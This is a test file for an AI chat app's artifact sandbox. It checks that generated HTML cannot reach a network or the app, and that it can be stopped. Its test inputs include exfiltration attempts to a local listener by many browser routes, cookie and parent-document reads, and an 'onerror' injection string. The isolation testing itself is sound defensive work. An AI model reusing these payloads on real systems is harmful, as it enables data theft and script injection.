// Artifacts: they run in a frame of another origin, reach neither a network nor the app, and can be stopped.
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { checkAxeInBothThemes, choose, composer, download, openPage, stage, startBrowser, talkOf } from './app.mjs';

let outside;
const here = stage(async () => {
  outside = await listenOutside();
});
after(() => outside?.close());

// A stranger's server that counts whatever reaches it, by TCP and by UDP.
async function listenOutside() {
  const hits = [];
  const tcp = net.createServer((socket) => {
    hits.push('tcp');
    socket.on('data', (data) => hits.push(String(data).slice(0, 80)));
    socket.on('error', () => {});
  });
  const udp = dgram.createSocket('udp4');
  udp.on('message', () => hits.push('udp'));
  await new Promise((done) => tcp.listen(0, '127.0.0.1', done));
  await new Promise((done) => udp.bind(0, '127.0.0.1', done));
  return { hits, url: `http://127.0.0.1:${tcp.address().port}`, tcp: tcp.address().port, udp: udp.address().port, close: () => (tcp.close(), udp.close()) };
}

// A conversation in which each text is an answer, below the one before.
const conversationOf = (...texts) => talkOf(here.url, 'Made things', ...texts.flatMap((text, i) => [`Question ${i + 1}`, text]));
const fence = (text, language = 'html') => `\`\`\`${language}\n${text}\n\`\`\``;

// The frame is of another port; its own request isn't one to another host.
async function finish(page) {
  const { artifacts_port: port } = await (await fetch(`${here.url}/api/session`)).json();
  const expected = [`a request to http://127.0.0.1:${port}/frame`];
  page.problems.splice(0, page.problems.length, ...page.problems.filter((each) => !expected.includes(each) && !/^console: /.test(each) && !each.includes(`a request to ${outside.url}`) && !/(RTCPeerConnection is not a constructor|boom is not defined)/.test(each)));
  await page.check();
}
const artifact = (page) => page.locator('section.artifact').last();
const inside = (page) => page.frameLocator('section.artifact iframe').last();
async function run(page, url) {
  if (page.url() !== url) await page.goto(url);
  await artifact(page).getByRole('button', { name: 'Run', exact: true }).click();
}
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const requests = async () => Number(/^melete_http_requests_total (\d+)/m.exec(await (await fetch(`${here.url}/metrics`)).text())[1]);
async function consoleOf(page) {
  await artifact(page).getByRole('button', { name: /^Console/ }).click();
  return artifact(page).locator('.console');
}

test('a page runs, says things, fails and is shown', async () => {
  const source = '<!doctype html><title>Counter</title><button id="b">0</button><script>b.onclick = () => { console.log("clicked", {n: ++b.textContent}); if (b.textContent == 2) boom(); }</script>';
  const page = await openPage(here.browser, await conversationOf(`Here:\n\n${fence(source)}`));
  await page.getByText('Counter', { exact: true }).waitFor();
  assert.equal(await page.locator('iframe').count(), 0, 'nothing runs until it is asked to');
  await run(page, page.url());
  const button = inside(page).locator('#b');
  await button.click();
  await button.click();
  assert.equal(await button.innerText(), '2');
  const lines = await consoleOf(page);
  await lines.getByText('boom is not defined').waitFor();
  assert.match(await lines.innerText(), /clicked \{n: 1\}[\s\S]*error ReferenceError: boom/);
  await artifact(page).getByRole('button', { name: 'Source', exact: true }).click();
  assert.equal((await artifact(page).locator('pre').innerText()).trim(), source);
  await artifact(page).getByRole('button', { name: 'Page', exact: true }).click();
  assert.equal(await button.innerText(), '2', 'it went on meanwhile');
  const saved = await download(page, () => artifact(page).getByRole('button', { name: 'Save it' }).click());
  assert.equal(saved.name, 'counter.html');
  assert.match(String(saved.text), /^<!doctype html>\n<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'/);
  await artifact(page).getByRole('button', { name: 'Full screen' }).click();
  await page.waitForFunction(() => document.fullscreenElement?.classList.contains('stage'));
  await page.evaluate(() => document.exitFullscreen());
  await artifact(page).getByRole('button', { name: 'Start it anew' }).press('Enter'); // the pointer's place isn't settled yet
  await page.waitForFunction(() => document.querySelector('section.artifact iframe'));
  await inside(page).locator('#b', { hasText: '0' }).waitFor();
  await artifact(page).getByRole('button', { name: 'Stop it' }).click();
  assert.equal(await page.locator('iframe').count(), 0);
  await finish(page);
});

test('nothing of it reaches a network', async () => {
  const { url, tcp, udp } = outside;
  const candidate = `candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`;
  const rtc = `<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }, { urls: 'turn:127.0.0.1:${tcp}?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).then(() => p.setRemoteDescription({ type: 'answer', sdp: p.localDescription.sdp.replace(/a=candidate.*\\r\\n/g, '').replace('actpass', 'active') })).then(() => p.addIceCandidate({ candidate: '${candidate}', sdpMLineIndex: 0 }))</script>`;
  const ways = {
    fetch: `<script>fetch('${url}/fetch').catch(() => {}); fetch('/api/session').catch(() => {}); navigator.sendBeacon('${url}/beacon', 'x'); const q = new XMLHttpRequest(); q.open('GET', '${url}/xhr'); try { q.send() } catch {}</script>`,
    sockets: `<script>for (const f of [() => new WebSocket('ws://127.0.0.1:${tcp}'), () => new EventSource('${url}'), () => new WebTransport('https://127.0.0.1:${tcp}')]) try { f() } catch {}</script>`,
    pictures: `<img src="${url}/i"><style>@import "${url}/css"; @font-face { font-family: f; src: url(${url}/font) } body { font-family: f; background: url(${url}/bg) }</style>x<svg><image href="${url}/svg"/></svg><video src="${url}/v"></video><audio src="${url}/a"></audio>`,
    frames: `<iframe src="${url}/frame"></iframe><object data="${url}/o"></object><embed src="${url}/e"><link rel=stylesheet href="${url}/s"><script src="${url}/js"></script><script type=module>import '${url}/m'</script>`,
    hints: `<link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}"><link rel=prefetch href="${url}/p"><link rel=preload as=image href="${url}/pl"><link rel=modulepreload href="${url}/mp"><script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}/s"]}]}</script>`,
    form: `<form id=f action="${url}/form" method=post><input name=a><button id=g>go</button></form><script>f.submit(); g.click()</script>`,
    links: `<a id=a href="${url}/a" ping="${url}/ping">x</a><a id=b href="${url}/b" target=_blank>x</a><a id=c href="${url}/c" download>x</a><script>a.click(); b.click(); c.click(); open('${url}/open')</script>`,
    navigation: `<script>setTimeout(() => { location.href = '${url}/away?secret' }, 100)</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    top: `<script>for (const f of [() => { top.location = '${url}/top' }, () => { parent.location.replace('${url}/parent') }]) try { f() } catch {}</script>`,
    worker: `<script>for (const f of [() => new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"]))), () => new SharedWorker('data:text/javascript,fetch("${url}/shared")'), () => navigator.serviceWorker.register('${url}/sw.js')]) try { f() } catch {}</script>`,
    // In a frame within, since the page's own constructor is taken away.
    webrtc: `<iframe srcdoc="${rtc.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`,
    webrtcOfItsOwn: rtc,
  };
  const together = ['fetch', 'sockets', 'pictures', 'frames', 'hints', 'worker'];
  const rest = Object.entries(ways).filter(([way]) => !together.includes(way));
  for (const [way, source] of [['asking', together.map((way) => ways[way]).join('\n')], ...rest]) {
    const page = await openPage(here.browser, await conversationOf(fence(`<p id="begun">begun</p>${source}`)));
    outside.hits.length = 0;
    await page.evaluate(() => void setInterval(() => fetch('/healthz'), 100));
    await run(page, page.url());
    await pause(/asking|webrtc/.test(way) ? 2000 : 700);
    assert.deepEqual(outside.hits, [], way);
    // The app goes on even where the browser ends the frame's process, as it does with webrtc.
    const before = await requests();
    await pause(500);
    assert.ok((await requests()) > before + 2, way);
    assert.ok(page.url().startsWith(here.url), `${way} left the app's page where it was`);
    await finish(page);
  }
  // The stranger's server can be reached, by someone who may.
  await fetch(`${outside.url}/x`, { signal: AbortSignal.timeout(300) }).catch(() => {});
  assert.ok(outside.hits.length > 0);
});

test('no name is looked up for it', async (t) => {
  const log = join(process.env.E2E_DIR ?? tmpdir(), 'melete-net-log.json');
  const quiet = await startBrowser([`--log-net-log=${log}`]);
  t.after(() => quiet.close());
  const hints = (host) => `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="https://${host}"><a href="https://${host}/">x</a><img src="https://${host}/i">`;
  // A page that is no artifact may look names up, and is seen to.
  const free = await (await quiet.newContext()).newPage();
  await free.route('http://free.example/', (route) => route.fulfill({ contentType: 'text/html', body: hints('control.example') }));
  await free.goto('http://free.example/');
  const page = await openPage(quiet, await conversationOf(fence(`<p>begun</p>${hints('secret.example')}<script>for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'https://secret.example/'; document.head.append(l); } new Image().src = 'https://secret.example/s'</script>`)));
  await run(page, page.url());
  await inside(page).getByText('begun').waitFor();
  await pause(1500);
  await page.context().close();
  await quiet.close();
  const text = readFileSync(log, 'utf8');
  assert.match(text, /control\.example/);
  assert.doesNotMatch(text, /secret\.example/);
});

test('nothing of the app is in reach', async () => {
  const source = `<script>
    const tries = {
      cookie: () => document.cookie, local: () => localStorage.length, session: () => sessionStorage.length, database: () => indexedDB.open('x'),
      caches: () => caches.keys(), parentDocument: () => parent.document, parentAddress: () => parent.location.href, frame: () => frameElement, topName: () => top.name, opener: () => opener.document,
    };
    (async () => {
      for (const [name, f] of Object.entries(tries)) {
        try { const got = await f(); console.log(name, got === null ? 'nothing' : 'GOT ' + got); } catch (error) { console.log(name, error.name); }
      }
      console.log('origin', self.origin);
      try { const answer = await fetch('${here.url}/api/conversations', { credentials: 'include' }); console.log('api GOT', answer.status); } catch (error) { console.log('api', error.name); }
      parent.postMessage({ melete: 'frame' }, '*'); parent.postMessage({ type: 'anything', html: '<img src=x onerror=window.hit=1>' }, '*');
      console.log('<img src=x onerror=window.hit=1>');
      console.log('end');
    })();
  </script>`;
  const page = await openPage(here.browser, await conversationOf(fence(source)));
  await page.context().addCookies([{ name: 'melete_session', value: 'secret', url: here.url }]);
  await page.evaluate(() => localStorage.setItem('secret', 'x'));
  await run(page, page.url());
  const lines = await consoleOf(page);
  await lines.getByText('end', { exact: true }).first().waitFor();
  const text = await lines.innerText();
  assert.doesNotMatch(text, /GOT/);
  for (const name of ['cookie', 'local', 'session', 'parentDocument', 'parentAddress', 'topName']) assert.match(text, new RegExp(`^${name} SecurityError`, 'm'));
  assert.match(text, /^origin null/m);
  assert.equal(await page.evaluate(() => window.hit), undefined);
  assert.equal(await lines.locator('img').count(), 0);
  const frame = page.frames().find((each) => each.url().endsWith('/frame'));
  assert.notEqual(new URL(frame.url()).origin, new URL(here.url).origin);
  await finish(page);
});

test('the frame’s page shows itself to nobody else', async () => {
  const { artifacts_port: port } = await (await fetch(`${here.url}/api/session`)).json();
  const got = await fetch(`http://127.0.0.1:${port}/frame`);
  assert.match(got.headers.get('content-security-policy'), new RegExp(`frame-ancestors ${here.url}$`));
  assert.equal((await fetch(`http://127.0.0.1:${port}/api/session`)).status, 404);
  assert.equal((await fetch(`${here.url}/frame.html`)).status, 404);
});

test('a script without end is noticed and stopped while the app answers', async () => {
  const page = await openPage(here.browser, await conversationOf(fence('<p>busy</p><script>setTimeout(() => { for (;;); }, 200)</script>')));
  await run(page, page.url());
  await page.getByText('It doesn’t answer').waitFor({ timeout: 15_000 });
  // The app is as quick as ever.
  const late = await page.evaluate(async () => {
    const begun = performance.now();
    await new Promise((done) => setTimeout(done, 50));
    return performance.now() - begun;
  });
  assert.ok(late < 1000, `${late} ms for a wait of 50`);
  await composer(page).fill('What is 2 + 3?');
  await composer(page).press('Enter');
  await page.locator('article[aria-label=Melete]').nth(1).locator('footer').waitFor();
  await page.locator('section.artifact .notice').getByRole('button', { name: 'Stop it' }).click();
  assert.equal(await page.locator('iframe').count(), 0);
  await artifact(page).getByRole('button', { name: 'Run', exact: true }).waitFor();
  await finish(page);
});

test('a flood of messages ends it', async () => {
  for (const flood of ['console.log(Math.random())', "parent.postMessage({ melete: 'x' }, '*')"]) {
    const page = await openPage(here.browser, await conversationOf(fence(`<script>const go = () => { for (let i = 0; i < 500; ++i) ${flood}; setTimeout(go); }; go();</script>`)));
    await run(page, page.url());
    await page.getByText('It was stopped').waitFor();
    assert.equal(await page.locator('iframe').count(), 0);
    await checkAxeInBothThemes(page, 'an artifact that was stopped');
    await finish(page);
  }
});

test('answers that rewrite an artifact are its versions, and the library has all', async () => {
  const version = (n, more = '') => fence(`<!doctype html>\n<title>Clock</title>\n<p id="n">version ${n}</p>\n<p>a line that stays</p>${more}`);
  const url = await conversationOf(version(1), version(2, '\n<p>new</p>'), `${fence('<svg viewBox="0 0 9 9"><title>Red dot</title><circle r="4" fill="red"/></svg>', 'svg')}\n\n${fence('{"title": "Sums", "labels": ["a"], "series": [{"name": "s", "values": [4]}]}', 'artifact chart')}`);
  const page = await openPage(here.browser, url);
  const clock = page.getByRole('group', { name: 'Artifact: Clock' }).nth(1);
  await clock.getByRole('group', { name: 'version 2 of 2' }).waitFor();
  await clock.getByRole('button', { name: 'Run', exact: true }).click();
  await clock.frameLocator('iframe').getByText('version 2').waitFor();
  await clock.getByRole('button', { name: 'Older version' }).click();
  await clock.frameLocator('iframe').getByText('version 1').waitFor();
  assert.equal(await page.getByRole('group', { name: 'Artifact: Clock' }).nth(0).getByRole('group', { name: /version/ }).count(), 0);
  // A template of the last answer runs at once: its page is the app's own.
  await page.getByRole('group', { name: 'Artifact: Sums' }).frameLocator('iframe').getByRole('heading', { name: 'Sums' }).waitFor();
  await page.getByRole('link', { name: 'Artifacts', exact: true }).click();
  await page.getByRole('button', { name: /Clock/ }).waitFor();
  await page.getByLabel('Search artifacts').fill('red dot');
  await page.getByRole('button', { name: /Clock/ }).waitFor({ state: 'detached' });
  await page.getByRole('button', { name: /Red dot/ }).click();
  await page.getByRole('dialog').frameLocator('iframe').locator('circle').waitFor();
  await page.keyboard.press('Escape');
  await page.getByLabel('Search artifacts').fill('clock');
  await page.getByRole('button', { name: /Clock.*2 versions/ }).waitFor();
  await finish(page);
});

test('six templates run on the first day, by keyboard, in both themes', async () => {
  const page = await openPage(here.browser, `${here.url}/#/artifacts`);
  const frame = () => page.frames().find((each) => each.url().endsWith('/frame'));
  for (const [name, ready] of [['Pairs', '.card'], ['Bricks', 'canvas'], ['Chart', '.mark'], ['Muscles', '.muscle'], ['Plate', '.wedge'], ['Physics toy', 'canvas']]) {
    await page.getByRole('link', { name: new RegExp(`^${name} `) }).click();
    const dialog = page.getByRole('dialog');
    const view = dialog.frameLocator('iframe');
    await view.locator(ready).first().waitFor();
    await checkAxeInBothThemes(page, name, frame());
    await keys[name]?.(page, view);
    if (name === 'Plate') {
      await dialog.getByText('Its data').click();
      await dialog.getByLabel(/Data of the template/).fill('{"title": "Soup", "foods": [{"name": "Leek", "grams": 200, "group": "vegetable", "per100": {"kcal": 31}}]}');
      await dialog.getByRole('button', { name: 'Use this data' }).click();
      await view.getByRole('heading', { name: 'Soup' }).waitFor();
      assert.equal(await view.locator('.total').textContent(), '62');
      await dialog.getByRole('button', { name: 'Ask Melete for one' }).click();
      await page.getByText('Fills the template “Plate”').waitFor();
      assert.match(await composer(page).inputValue(), /breakfast/);
      await page.getByRole('button', { name: 'Don’t fill a template' }).click();
      await composer(page).fill('');
      await page.goto(`${here.url}/#/artifacts`);
    } else {
      await page.keyboard.press('Escape');
      if ((await dialog.count()) > 0) await dialog.getByRole('button', { name: 'Close' }).click(); // the frame had the keyboard
    }
    await dialog.waitFor({ state: 'detached' });
  }
  await finish(page);
});

// The smallest model writes nonsense, but what it writes is held to the template's schema: its page runs.
test('a model fills each template, and fills it again', async () => {
  await choose(here.url, { mode: 'instant', temperature: 1, seed: 3 });
  const page = await openPage(here.browser, here.url);
  for (const [name, ready] of [['pairs', '.card'], ['bricks', 'canvas'], ['chart', '.mark'], ['muscles', '.muscle'], ['plate', '.wedge'], ['toy', 'canvas']]) {
    await page.goto(`${here.url}/#/artifacts/${name}`);
    await page.getByRole('button', { name: 'Ask Melete for one' }).click();
    await composer(page).press('Enter');
    const answer = page.locator('article[aria-label=Melete]').last();
    const artifact = answer.getByRole('group', { name: /^Artifact/ });
    await artifact.frameLocator('iframe').locator(ready).first().waitFor();
    assert.equal(await artifact.locator('.count.bad').count(), 0, name);
    await artifact.getByRole('button', { name: 'Source', exact: true }).click();
    const data = JSON.parse(await artifact.getByRole('group', { name: 'Source' }).innerText());
    assert.ok(data.title.length > 0, name);
    await page.getByRole('button', { name: 'Don’t fill a template' }).click();
  }
  await choose(here.url, { mode: 'instant', temperature: 1, seed: 4 });
  await page.reload();
  const last = page.locator('article[aria-label=Melete]').last();
  await last.getByRole('button', { name: 'Answer again' }).click();
  await page.getByRole('group', { name: 'answer 2 of 2' }).waitFor();
  await last.getByRole('group', { name: /^Artifact/ }).frameLocator('iframe').locator('canvas').waitFor();
  await finish(page);
});

const keys = {
  async Pairs(page, view) {
    await view.locator('.card').first().focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('Enter');
    await view.getByText('1 turns').waitFor();
  },
  async Bricks(page, view) {
    await view.locator('canvas').focus();
    await page.keyboard.press('Space');
    await view.locator('#sign').waitFor({ state: 'hidden' });
    await page.keyboard.press('Space');
    await view.getByText('Paused').waitFor();
  },
  async Chart(page, view) {
    await view.locator('.mark').first().focus();
    await page.keyboard.press('ArrowRight');
    await view.locator('#tip', { hasText: 'Quito, Feb: 12.1 h' }).waitFor();
    await view.getByRole('button', { name: 'Table' }).click();
    assert.equal(await view.locator('tr').count(), 13);
  },
  async Muscles(page, view) {
    await view.getByRole('button', { name: /^biceps/ }).focus();
    await page.keyboard.press('Enter');
    await view.getByRole('heading', { name: /^Biceps/ }).waitFor();
    assert.deepEqual(await view.locator('li:not(.away) b').allInnerTexts(), ['Row']);
  },
  async 'Physics toy'(page, view) {
    await view.locator('canvas').focus();
    await page.keyboard.press('Space');
    await view.getByText('Time stands still.').waitFor();
  },
};
